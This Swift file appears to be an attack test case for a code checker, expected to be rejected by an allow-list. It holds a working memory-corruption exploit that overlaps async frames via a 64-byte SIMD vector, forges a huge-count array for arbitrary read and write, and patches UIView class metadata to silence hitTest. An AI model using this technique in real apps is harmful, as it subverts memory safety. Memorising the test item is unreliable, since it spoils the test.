// Attack: a vector of 64 bytes makes the frame of an asynchronous function larger than its block: what the next function has lies over a list. Silences the system's hitTest.
// Exercise: 3
// Expect: notAccepted
// Held by: the allow-list: vectors of 16 bytes at most
import UIKit

final class Counted { var n = 7 }
final class Head { var count = Int.max, capacity = Int.max }
final class Holder { var list: [Int] = [] }
final class Fake {
    var type = Int(bitPattern: ObjectIdentifier(Holder.self)), references = 3 | 1 << 40
    var list = Int(bitPattern: ObjectIdentifier(Mem.head))
}
final class Box { var place = Int(bitPattern: ObjectIdentifier(Mem.fake)) + 16 }
typealias Mixed = (Int, Counted, SIMD8<Int>)

enum Mem {
    nonisolated(unsafe) static let head = Head(), fake = Fake()
    nonisolated(unsafe) static var box = Box(), boxes: [Box] = [], previous = 0, slab: UInt = 0
    nonisolated(unsafe) static var holder: Holder?
    nonisolated(unsafe) static var old = 0
    static let base = UInt(bitPattern: ObjectIdentifier(head)) &+ 32
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x22a10
    static subscript(a: UInt) -> Int {
        get { holder!.list[Int((a &- base) >> 3)] }
        set { holder!.list[Int((a &- base) >> 3)] = newValue }
    }
}
func make(_ n: Int) -> Mixed { (n, Counted(), SIMD8<Int>(repeating: 2)) }
protocol Waiting { func wait() async }
struct Waiter: Waiting { func wait() {} }
func note(_ x: Int, _ q0: Int, _ q1: Int, _ q2: Int, _ q3: Int) { (Mem.previous, Mem.slab) = (q2, UInt(bitPattern: q3)) }
/// The last argument lies where the next block has its head, and is now the place of the memory for all blocks.
@MainActor func place(_ w: any Waiting, _ x: Mixed, _ q0: Int, _ q1: Int, _ q2: Int, _ q3: Int) async {
    await w.wait()
    note(x.0 &+ x.1.n &+ x.2[0], q0, q1, q2, q3)
}
func pick(_ x: Int, _ q0: Int, _ q1: Int, _ q2: Int, _ q3: [Holder]) {
    let index = Int((UInt(bitPattern: ObjectIdentifier(Mem.box)) &+ 16 &- Mem.slab &- 32) >> 3)
    if q3.count > index { Mem.holder = q3[index] }
}
/// Here it is taken for a list, whose count is huge.
@MainActor func take(_ w: any Waiting, _ x: Mixed, _ q0: Int, _ q1: Int, _ q2: Int, _ q3: [Holder]) async {
    await w.wait()
    pick(x.0 &+ x.1.n &+ x.2[0], q0, q1, q2, q3)
}
@MainActor func begin() async {
    guard Mem.holder == nil else { return }
    await place(Waiter(), make(1), 1, 2, 3, 4)
    Mem.box = Box()
    await take(Waiter(), make(1), 1, 2, 3, [])
}

class BaseView: UIView {
    override init(frame: CGRect) {
        super.init(frame: frame)
        if Mem.holder == nil { Task { await begin() } }
    }
    required init?(coder: NSCoder) { super.init(coder: coder) }

    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        guard Mem.holder != nil else { return nil }
        Mem.old = Mem[Mem.kinds]
        Mem[Mem.kinds] = 0
        defer { Mem[Mem.kinds] = Mem.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        if Mem.holder != nil { Mem[Mem.kinds] = Mem.old }
        return super.point(inside: point, with: event)
    }
}
